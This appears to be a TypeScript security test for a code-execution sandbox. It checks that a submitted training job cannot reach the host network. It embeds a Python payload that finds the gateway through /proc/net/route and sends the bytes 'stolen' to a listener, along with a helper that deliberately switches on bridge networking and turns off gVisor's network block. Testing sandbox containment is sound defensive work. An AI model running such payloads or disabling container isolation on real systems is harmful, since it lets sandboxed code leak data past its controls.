import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { createInterface } from 'node:readline';
import { networkInterfaces } from 'node:os';
import { breachInLog, type Attack } from '../support/attack.js';
import { GVISOR } from '../support/engine-for.js';
import { trainWith } from './programs.js';

const PORT = 47_113;

/** Knocks at every address of this machine that a container could have a way to, and where its own way out leads. */
function knocking(): string {
  const addresses = Object.values(networkInterfaces())
    .flat()
    .flatMap((place) => (place?.family === 'IPv4' && !place.internal ? [place.address] : []));
  return `import socket, struct
hosts = ${JSON.stringify(addresses)}
for line in open("/proc/net/route"):
    way = line.split()
    if len(way) > 2 and way[1] == "00000000": hosts.append(socket.inet_ntoa(struct.pack("<L", int(way[2], 16))))
for host in hosts:
    try:
        socket.create_connection((host, ${PORT}), timeout=2).sendall(b"stolen")
        print("breach: reached", host)
    except OSError as error:
        print(host, error)`;
}

const LISTENER = `
const server = require('node:net').createServer((socket) => {
  socket.on('error', () => undefined);
  console.log('knock');
});
server.listen(${PORT}, '0.0.0.0', () => console.log('listening'));`;

/** @param launcher what puts the listener into the network of the engine's machine */
async function listen(launcher: readonly string[]) {
  const [program = process.execPath, ...args] = [...launcher, process.execPath, '-e', LISTENER];
  const listener = spawn(program, args, { stdio: ['ignore', 'pipe', 'inherit'] });
  const lines = createInterface({ input: listener.stdout });
  await once(lines, 'line');
  let knocks = 0;
  lines.on('line', () => knocks++);
  return {
    seen: () => Promise.resolve(`${knocks} knocks`),
    close: async () => {
      listener.kill();
      await once(listener, 'exit');
    },
  };
}

/** gVisor says no a second time; that has to be off as well. */
function networked(runtime: string | undefined): { Runtime?: string } {
  return runtime === GVISOR ? { Runtime: `${GVISOR}-networked` } : {};
}

export const network: Attack[] = [
  {
    threat: 'Network exfiltration',
    name: 'train sends data to a listener on the host',
    submission: trainWith(knocking()),
    control: 'no network',
    weakness: {
      container: ({ NetworkDisabled: _off, ...options }) => ({
        ...options,
        HostConfig: {
          ...options.HostConfig,
          NetworkMode: 'bridge',
          ...networked(options.HostConfig?.Runtime),
        },
      }),
    },
    watch: listen,
    gained: (run) => breachInLog(run) ?? (run.seen === '0 knocks' ? null : run.seen),
    ends: 'CRASHED',
  },
];
